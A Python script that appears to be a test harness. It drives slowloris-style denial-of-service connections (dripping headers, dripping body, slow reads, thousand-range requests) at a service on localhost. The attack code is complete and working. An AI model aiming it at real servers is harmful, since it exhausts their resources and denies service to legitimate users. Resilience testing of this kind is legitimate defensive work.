"""Connections that cost the service and never end, in the four modes of slowhttptest.

    crowd.py MODE PORT CONNECTIONS SOURCE TOKEN APP

headers: a head that drips. body: a body that drips. read: long answers that are asked for and read a byte at
a time. ranges: a thousand ranges of one answer, again and again. Prints a line when all its connections have
begun; one that ends is begun again. Ends with its stdin."""

import resource
import selectors
import socket
import sys

MODES = ("headers", "body", "read", "ranges")
TICK_S = 1.0


class Crowd:
    """The attackers. Each tick every connection does a little."""

    def __init__(self, mode, port, count, source, token, app):
        self.mode, self.port, self.count, self.source = mode, int(port), int(count), source
        self.head = (f"Host: h\r\nAuthorization: Bearer {token}\r\n").encode()
        self.target = f"/api/v1/app/{app}/msg".encode()
        self.sockets = []

    def opening(self):
        """What a connection says first."""
        if self.mode == "headers":
            return b"POST " + self.target + b" HTTP/1.1\r\n" + self.head
        if self.mode == "body":
            return b"POST " + self.target + b" HTTP/1.1\r\n" + self.head + b"Content-Length: 65536\r\n\r\n{"
        if self.mode == "read":
            return (b"GET " + self.target + b"?limit=250 HTTP/1.1\r\n" + self.head + b"\r\n") * 3
        return self.ranges()

    def ranges(self):
        parts = b",".join(b"5-%d" % n for n in range(1000))
        return b"GET " + self.target + b" HTTP/1.1\r\n" + self.head + b"Range: bytes=0-," + parts + b"\r\n\r\n"

    def begin(self):
        s = socket.socket()
        if self.mode == "read":
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        s.bind((self.source, 0))
        s.connect(("127.0.0.1", self.port))
        s.setblocking(False)
        s.send(self.opening())
        return s

    def nudge(self, s):
        """A little more of it; an error when the connection has ended."""
        if self.mode == "headers":
            s.send(b"X-a: b\r\n")
        elif self.mode == "body":
            s.send(b" ")
        elif self.mode == "ranges":
            s.send(self.ranges())
        try:
            if not s.recv(1 if self.mode == "read" else 65536):
                raise ConnectionResetError
        except BlockingIOError:
            pass

    def tick(self):
        still = []
        for s in self.sockets:
            try:
                self.nudge(s)
                still.append(s)
            except OSError:
                s.close()
        self.sockets = still
        while len(self.sockets) < self.count:
            try:
                self.sockets.append(self.begin())
            except OSError:
                break  # refused; the next tick tries again

    def run(self):
        self.tick()
        print("begun", flush=True)
        selector = selectors.DefaultSelector()
        selector.register(sys.stdin, selectors.EVENT_READ)
        while not selector.select(TICK_S):
            self.tick()


if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    Crowd(*sys.argv[1:]).run()
